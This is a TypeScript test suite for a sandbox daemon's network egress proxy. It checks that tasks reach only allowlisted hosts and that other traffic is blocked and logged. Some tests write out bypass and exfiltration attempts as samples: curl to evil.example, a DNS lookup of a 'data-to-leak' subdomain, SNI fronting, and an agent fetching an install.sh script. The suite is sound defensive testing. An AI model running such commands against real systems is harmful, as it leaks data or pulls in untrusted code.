import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { chmodSync, chownSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { createServer, type Socket } from 'node:net'
import { createHash } from 'node:crypto'
import { join } from 'node:path'
import type { StartOptions, Task } from '../../client/index.js'
import type { NetworkDecision } from '../../protocol/index.js'
import { runCli } from '../helpers/cli.js'
import { startTestDaemon, type TestDaemon } from '../helpers/test-daemon.js'
import { closeServer, echoHttp, echoHttps, listening, makeCertificate, tracked } from './egress-harness.js'
import * as tendPlugin from '../../tools/index.js'
import { callTool, createHost, TestAgent, textOf } from '../harness/host.js'
import { waitFor } from '../helpers/wait-for.js'

/*
 * `allow` through a real daemon: a task in its owner's namespace reaches the operator's allowlist
 * through tend's egress proxy (HTTP, CONNECT, SOCKS5) and transparently (the DNS stub's synthetic
 * addresses), and nothing else; every decision lands in its network.log and record. Upstreams run
 * on the host's 127.0.0.1, named by networkHosts (a name it maps may lead to an internal address).
 */

const base = mkdtempSync('/var/tmp/tend-egress-')
chmodSync(base, 0o711)
const q = (text: string) => `'${text.replaceAll("'", "'\\''")}'`

let daemon: TestDaemon
let cwd: string
const http = echoHttp()
let httpPort: number
const tlsFiles = makeCertificate(['tls.test', 'other.test'])
const https = echoHttps(tlsFiles)
let httpsPort: number
let caFile: string
// A plain TCP service (no HTTP, no TLS): what git://, ssh or a database speak.
const raw = tracked(
  createServer((socket: Socket) => {
    socket.once('data', (data) => socket.end(`raw upstream got ${data.toString().trim()}\n`))
  }),
)
let rawPort: number
const loopbackOnly = tracked(createServer((socket: Socket) => socket.end('internal\n')))
let loopbackOnlyPort: number

beforeAll(async () => {
  ;[httpPort, httpsPort, rawPort, loopbackOnlyPort] = await Promise.all([listening(http), listening(https), listening(raw), listening(loopbackOnly)])
  cwd = mkdtempSync(join(base, 'ws-'))
  chmodSync(cwd, 0o777)
  caFile = join(cwd, 'ca.pem')
  writeFileSync(caFile, tlsFiles.cert)
  chmodSync(caFile, 0o644)
  daemon = await startTestDaemon({
    env: {
      TEND_SANDBOX: 'workspace',
      TEND_NETWORK_HOSTS: 'up.test=127.0.0.1,tls.test=127.0.0.1,other.test=127.0.0.1,raw.test=127.0.0.1',
      // localhost is on the list, unmapped: it resolves to 127.0.0.1, an internal address.
      TEND_NETWORK_ALLOW: `up.test:${httpPort},tls.test:${httpsPort},raw.test:${rawPort},localhost:${loopbackOnlyPort}`,
    },
  })
})
afterAll(async () => {
  await daemon?.stop()
  await Promise.all([closeServer(http), closeServer(https), closeServer(raw), closeServer(loopbackOnly)])
  rmSync(base, { recursive: true, force: true })
})

async function run(line: string, options: Partial<StartOptions> = {}): Promise<{ task: Task; output: string; log: NetworkDecision[] }> {
  const started = await daemon.client.start({ command: line, shell: true, cwd, sandbox: 'workspace', network: 'allow', timeoutMs: 30_000, ...options })
  const task = await daemon.client.wait(started.id, { timeoutMs: 40_000 })
  const output = (await daemon.client.read(started.id)).data
  return { task, output, log: networkLog(task) }
}

function networkLog(task: Task): NetworkDecision[] {
  let text = ''
  try {
    text = readFileSync(join(task.spool, 'network.log'), 'utf8')
  } catch {
    return []
  }
  return text
    .split('\n')
    .filter(Boolean)
    .map((line) => JSON.parse(line) as NetworkDecision)
}

describe('an allowed name', () => {
  test('over HTTP through the proxy variables: the upstream sees the name, the task its answer; logged with bytes each way', async () => {
    const { task, output, log } = await run(`echo "$HTTP_PROXY $http_proxy"; curl -sS --max-time 10 http://up.test:${httpPort}/hello`)
    expect(task).toMatchObject({ state: 'exited', exitCode: 0, network: 'allow' })
    expect(output).toBe(`http://127.0.0.1:1023 http://127.0.0.1:1023\nupstream saw GET /hello host=up.test:${httpPort}`)
    expect(log).toEqual([expect.objectContaining({ name: 'up.test', port: httpPort, via: 'http', decision: 'allowed', address: '127.0.0.1' })])
    expect(log[0]!.sentBytes).toBeGreaterThan(0)
    expect(log[0]!.receivedBytes).toBeGreaterThan(0)
    expect(task.networkUse).toMatchObject({ allowed: 1, blocked: 0 })
  })

  test('over HTTPS through CONNECT, the TLS checked end to end by the task', async () => {
    const { output, log } = await run(`curl -sS --max-time 10 --cacert ${q(caFile)} https://tls.test:${httpsPort}/secure`)
    expect(output).toBe(`tls upstream saw GET /secure host=tls.test:${httpsPort}`)
    expect(log).toEqual([expect.objectContaining({ name: 'tls.test', port: httpsPort, via: 'connect', decision: 'allowed' })])
  })

  test('over SOCKS5 (ALL_PROXY, names resolved by the proxy)', async () => {
    const { output, log } = await run(`curl -sS --max-time 10 --proxy "$ALL_PROXY" http://up.test:${httpPort}/socks`)
    expect(output).toBe(`upstream saw GET /socks host=up.test:${httpPort}`)
    expect(log).toEqual([expect.objectContaining({ name: 'up.test', via: 'socks', decision: 'allowed' })])
  })

  test('transparently, for tools that ignore proxy variables: HTTP, HTTPS and plain TCP to the name the DNS stub answered', async () => {
    const python = [
      'import socket',
      `s = socket.create_connection(("raw.test", ${rawPort}), timeout=10)`,
      's.sendall(b"ping\\n")',
      'print(s.recv(100).decode().strip())',
    ].join('\n')
    const line = [
      'getent hosts up.test',
      `curl -sS --max-time 10 --noproxy '*' http://up.test:${httpPort}/plain; echo`,
      `curl -sS --max-time 10 --noproxy '*' --cacert ${q(caFile)} https://tls.test:${httpsPort}/tls; echo`,
      `env -u ALL_PROXY -u all_proxy python3 -c ${q(python)}`,
    ].join('; ')
    const { output, log } = await run(line)
    expect(output).toMatch(/^127\.100\.\d+\.\d+\s+up\.test\n/)
    expect(output).toContain(`upstream saw GET /plain host=up.test:${httpPort}\n`)
    expect(output).toContain(`tls upstream saw GET /tls host=tls.test:${httpsPort}\n`)
    expect(output).toContain('raw upstream got ping\n')
    expect(log.filter((entry) => entry.via === 'transparent').map((entry) => [entry.name, entry.decision])).toEqual([
      ['up.test', 'allowed'],
      ['tls.test', 'allowed'],
      ['raw.test', 'allowed'],
    ])
  })
})

describe('bytes in bulk', () => {
  // Binary, as bulk data over plain TCP is: a first chunk of text without a line end is held as a
  // request line still coming (and refused past 64 KiB), test/network/egress-attacks.test.ts.
  test('32 MiB each way through a transparent connection arrive whole, and are counted', async () => {
    const size = 32 * 1024 * 1024
    const bulk = tracked(
      createServer((socket: Socket) => {
        let received = 0
        socket.on('data', (chunk) => {
          received += chunk.length
          if (received === size) socket.end(Buffer.alloc(size, 7))
        })
      }),
    )
    const bulkPort = await listening(bulk)
    try {
      const python = [
        'import socket, hashlib',
        `s = socket.create_connection(("raw.test", ${bulkPort}), timeout=30)`,
        `s.sendall(bytes(range(256)) * ${size / 256})`,
        'got = bytearray()',
        'while True:',
        '    chunk = s.recv(1 << 20)',
        '    if not chunk: break',
        '    got += chunk',
        'print(len(got), hashlib.sha256(got).hexdigest())',
      ].join('\n')
      // A daemon of its own: the allowlist names the port this server got.
      const bulkDaemon = await startTestDaemon({
        env: { TEND_SANDBOX: 'workspace', TEND_NETWORK_HOSTS: 'raw.test=127.0.0.1', TEND_NETWORK_ALLOW: `raw.test:${bulkPort}` },
      })
      try {
        const started = await bulkDaemon.client.start({
          command: `env -u ALL_PROXY -u all_proxy python3 -c ${q(python)}`,
          shell: true,
          cwd,
          sandbox: 'workspace',
          network: 'allow',
          timeoutMs: 60_000,
        })
        const task = await bulkDaemon.client.wait(started.id, { timeoutMs: 90_000 })
        const output = (await bulkDaemon.client.read(task.id)).data
        const expected = createHash('sha256').update(Buffer.alloc(size, 7)).digest('hex')
        expect(output).toBe(`${size} ${expected}\n`)
        expect(task.networkUse).toMatchObject({ allowed: 1, sentBytes: size, receivedBytes: size })
      } finally {
        await bulkDaemon.stop()
      }
    } finally {
      await closeServer(bulk)
    }
  })
})

describe('refused, and said so', () => {
  test('an unlisted name: 403 with the reason, recorded, listed as a blocked destination', async () => {
    const { task, output } = await run('curl -sS -f --max-time 10 http://evil.example/ 2>&1; echo " rc=$?"; curl -sS --max-time 10 http://evil.example/')
    expect(output).toMatch(/403/)
    expect(output).toContain('tend: blocked evil.example:80 (not on the allowlist)')
    expect(task.networkUse?.blockedDestinations).toEqual(
      expect.arrayContaining([expect.objectContaining({ name: 'evil.example', port: 80, reason: 'not on the allowlist' })]),
    )
    const shown = await runCli(['show', task.id], daemon.env)
    expect(shown.stdout).toMatch(/blocked:\s+evil\.example:80 \(not on the allowlist/)
  })

  test('a listed name that resolves to loopback (not mapped by networkHosts) is refused', async () => {
    const { output, log } = await run(`curl -sS --max-time 10 http://localhost:${loopbackOnlyPort}/ --proxy "$HTTP_PROXY" --noproxy ''`)
    expect(output).toMatch(/tend: blocked localhost:\d+ \(.*internal/)
    expect(log).toEqual([expect.objectContaining({ name: 'localhost', decision: 'blocked' })])
    expect(loopbackOnly.seen).toHaveLength(0)
  })

  test('an IP literal not on the list is refused, even the address an allowed name leads to', async () => {
    const { output } = await run(
      `curl -sS --max-time 10 --proxy "$HTTP_PROXY" --noproxy '' http://127.0.0.1:${httpPort}/; echo; curl -sS --max-time 10 http://203.0.113.7/`,
    )
    expect(output).toMatch(/tend: blocked 127\.0\.0\.1:\d+ \(/)
    expect(output).toMatch(/tend: blocked 203\.0\.113\.7:80 \(/)
  })

  test('a TLS ClientHello naming another host than the CONNECT is cut off (no fronting through an allowed host)', async () => {
    const before = https.seen.length
    const { output, log } = await run(
      `echo | timeout 10 openssl s_client -proxy 127.0.0.1:1023 -connect tls.test:${httpsPort} -servername other.test -CAfile ${q(caFile)} 2>&1; echo done`,
    )
    expect(output).toContain('done')
    // No certificate came back: the handshake never reached the upstream.
    expect(output).not.toMatch(/BEGIN CERTIFICATE|Server certificate|subject=/)
    expect(log).toEqual([expect.objectContaining({ name: 'tls.test', via: 'connect', decision: 'blocked', reason: expect.stringContaining('other.test') })])
    // The upstream may have been connected, but saw no byte of the task's.
    for (const connection of https.seen.slice(before)) expect(connection.read()).toBe(0)
  })

  test('a DNS lookup of an unlisted name is answered NXDOMAIN by the stub and recorded; the namespace has no way out but the stub', async () => {
    const { output, log } = await run('getent hosts data-to-leak.evil.example; echo "getent rc=$?"; ip route; ip -o link | cut -d: -f2')
    expect(output).toContain('getent rc=2')
    expect(output).not.toMatch(/default|via/)
    expect(output.trim().split('\n').at(-1)?.trim()).toBe('lo')
    expect(log).toEqual(expect.arrayContaining([expect.objectContaining({ name: 'data-to-leak.evil.example', via: 'dns', decision: 'blocked' })]))
  })

  test('a loopback task of the same owner gets nothing through the proxy, even by naming it', async () => {
    const { task, output, log } = await run(`curl -sS --max-time 10 --proxy http://127.0.0.1:1023 http://up.test:${httpPort}/; echo " rc=$?"`, {
      network: 'loopback',
    })
    expect(task.network).toBe('loopback')
    expect(output).not.toContain('upstream saw')
    expect(output).toMatch(/tend: blocked up\.test:\d+ \(network loopback/)
    expect(log).toEqual([expect.objectContaining({ name: 'up.test', decision: 'blocked' })])
  })
})

describe('per-task destinations', () => {
  // An agent's request with allowNet is refused: test/tools/network.test.ts.
  test("the operator's --allow-net widens one task only", async () => {
    const other = tracked(createServer((socket: Socket) => socket.end('HTTP/1.0 200 OK\r\nContent-Length: 5\r\n\r\nextra')))
    const otherPort = await listening(other)
    try {
      const line = `curl -sS --max-time 10 http://other.test:${otherPort}/`
      const widened = await runCli(
        ['run', '--wait', '--cwd', cwd, '--sandbox', 'workspace', '--allow-net', `other.test:${otherPort}`, '--', 'sh', '-c', line],
        daemon.env,
      )
      expect(widened.stdout).toBe('extra')
      const plain = await run(line)
      expect(plain.output).toContain(`tend: blocked other.test:${otherPort} (not on the allowlist)`)
    } finally {
      await closeServer(other)
    }
  })

  test('a malformed --allow-net is refused before anything runs, naming the pattern', async () => {
    const result = await runCli(['run', '--cwd', cwd, '--allow-net', 'https://registry.example/path', '--', 'true'], daemon.env)
    expect(result.exitCode).not.toBe(0)
    expect(result.stderr).toMatch(/--allow-net: "https:\/\/registry\.example\/path" is a URL: give the host/)
  })
})

describe('an agent', () => {
  test('reads in its tool result what was blocked and why, when its command failed after a block; the task ran with network allow', async () => {
    const host = createHost()
    const fork = host.plugin(tendPlugin, { home: daemon.home })
    try {
      await waitFor('the tend tools to be registered', () => host.tools.tools.size === 5)
      const agent = new TestAgent('egress-agent')
      const result = await callTool(host, agent, {
        name: 'bash',
        arguments: { command: `cd ${q(cwd)} && curl -sS -f --max-time 10 https://evil.example/install.sh`, description: 'fetch', network: 'allow' },
      })
      const text = textOf(result)
      expect(text).toContain('blocked: evil.example:443 (not on the allowlist)')
      expect(text).toMatch(/exit code: 56|exit code: 22/)
    } finally {
      fork.dispose()
    }
  })
})

describe('an unprivileged daemon (user namespaces)', () => {
  test('its allow tasks reach the allowlist through the proxy, and nothing else', async () => {
    const unprivileged = await startTestDaemon({
      user: 'unprivileged',
      env: { TEND_SANDBOX: 'workspace', TEND_NETWORK_HOSTS: 'up.test=127.0.0.1', TEND_NETWORK_ALLOW: `up.test:${httpPort}` },
    })
    const workspace = mkdtempSync(join(base, 'unprivileged-'))
    chownSync(workspace, unprivileged.uid, unprivileged.gid)
    try {
      expect((await unprivileged.client.status()).sandbox.network.modes).toEqual(['loopback', 'allow', 'host'])
      const started = await unprivileged.client.start({
        command: `curl -sS --max-time 10 http://up.test:${httpPort}/via-proxy; echo; curl -sS --max-time 10 --noproxy '*' http://up.test:${httpPort}/transparent; echo; curl -sS --max-time 10 http://evil.example/`,
        shell: true,
        cwd: workspace,
        network: 'allow',
      })
      const task = await unprivileged.client.wait(started.id, { timeoutMs: 30_000 })
      const output = (await unprivileged.client.read(task.id)).data
      expect(output).toBe(
        `upstream saw GET /via-proxy host=up.test:${httpPort}\nupstream saw GET /transparent host=up.test:${httpPort}\ntend: blocked evil.example:80 (not on the allowlist)\n`,
      )
      expect(task.networkUse).toMatchObject({ allowed: 2, blocked: 1 })
    } finally {
      await unprivileged.stop()
    }
  })
})
